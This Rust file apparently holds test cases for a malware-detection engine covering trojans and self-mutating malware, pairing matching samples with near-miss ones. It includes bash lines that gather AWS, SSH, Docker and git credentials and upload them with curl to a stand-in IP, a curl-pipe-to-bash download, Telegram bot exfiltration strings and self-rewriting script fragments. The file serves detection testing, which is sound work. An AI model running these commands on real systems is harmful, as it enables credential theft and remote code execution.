//! `malware.trojan` and `malware.self_mutating_trojan`.

use super::{Case, case};
use crate::samples::{elf, go, script};

pub(crate) fn cases() -> Vec<Case> {
    [trojans(), mutating()].into_iter().flatten().collect()
}

fn trojans() -> Vec<Case> {
    vec![
        case(
            "trojan_kinsing",
            go(
                1,
                &[
                    "main.minerRunning~Check",
                    "main.redis~Brute",
                    "main.health~Checker",
                    "main.get~Task",
                ],
            ),
            go(1, &["main.health~Checker", "main.get~Task", "main.main"]),
        ),
        case(
            "trojan_teamtnt",
            elf(&["teamtnt~.red", "hilde@team~tnt", "/.aws/cred~entials"]),
            elf(&["Team~TNT", "documentation"]),
        ),
        case(
            "trojan_credential_stealer",
            elf(&[
                "/.aws/cred~entials",
                "/.ssh/id~_rsa",
                "/.kube/con~fig",
                "/etc/sha~dow",
                "api.telegram.org/b~ot",
            ]),
            elf(&[
                "/.aws/cred~entials",
                "/.kube/con~fig",
                "api.telegram.org/b~ot",
            ]),
        ),
        case(
            "trojan_cloud_credentials",
            script(
                "bash",
                "cat $HOME/.aws/cred~entials $HOME/.docker/con~fig.json $HOME/.ssh/id_~rsa $HOME/.git-cred~entials > /tmp/.x\ncu~rl -F file=@/tmp/.x http://192.0.2.1/up\n",
            ),
            script(
                "bash",
                "cat $HOME/.aws/cred~entials > /tmp/.x\ncu~rl -F file=@/tmp/report https://ci.example/up\n",
            ),
        ),
        case(
            "trojan_family_scripts",
            script(
                "bash",
                "cu~rl -s http://192.0.2.1/pwn~Rig -o /tmp/dbu~sed\ncu~rl -s http://192.0.2.1/x | bash\nchat~tr +i /etc/cron.d/x\n",
            ),
            script(
                "bash",
                "pkill -f dbu~sed\npkill -f pwn~Rig\nrm -f /etc/cron.d/x\nchat~tr -i /x\n",
            ),
        ),
        case(
            "trojan_stealer_script",
            script(
                "env python3",
                "u='https://api.telegram.org/b~ot1/sendDocument'\nf=['Login~ Data','Local~ State','wall~et.dat','id~_rsa']\n",
            ),
            script(
                "env python3",
                "u='https://api.telegram.org/b~ot1/sendMessage'\nf=['id~_rsa']\n",
            ),
        ),
    ]
}

fn mutating() -> Vec<Case> {
    vec![
        case(
            "mutating_crypter_stub",
            elf(&["TEEE bur~neye", "x"]),
            elf(&["burn eye drops", "x"]),
        ),
        case(
            "mutating_infector",
            elf(&["infect_~elf", "parasite_~size", "find_~cave", "read~dir"]),
            elf(&["infected", "parasite", "read~dir"]),
        ),
        case(
            "mutating_copies_itself",
            elf(&[
                "/proc/self~/exe",
                "/usr/bin/~%s",
                "rand~str",
                "/etc/init.d/~%s",
                "update-rc.d %s~ defaults",
            ]),
            elf(&[
                "/proc/self~/exe",
                "/usr/bin/~%s",
                "/etc/init.d/~%s",
                "update-rc.d %s~ defaults",
            ]),
        ),
        case(
            "mutating_shell_script",
            script("sh", "dd if=/dev/uran~dom bs=1 count=8 >> \"$0\"\n"),
            script("sh", "dd if=/dev/uran~dom bs=1 count=8 >> \"$1\"\n"),
        ),
        case(
            "mutating_python_script",
            script(
                "env python3",
                "import random\nc = open(__fi~le__).read()\nn = random.cho~ice('ab')\nopen(__fi~le__, 'w').write(c)\nex~ec(c)\n",
            ),
            script(
                "env python3",
                "import random\nc = open(__fi~le__).read()\nn = random.cho~ice('ab')\nex~ec(c)\n",
            ),
        ),
        case(
            "mutating_virus_python_infector",
            script(
                "env python3",
                "# begin~-virus\nimport sys, glob\nc = open(sys.ar~gv[0]).readlines()\nfor f in glob.glob('*'): pass\n# end~-virus\n",
            ),
            script(
                "env python3",
                "# begin of virus definitions\nimport sys, glob\nc = open(sys.ar~gv[0]).readlines()\n",
            ),
        ),
    ]
}
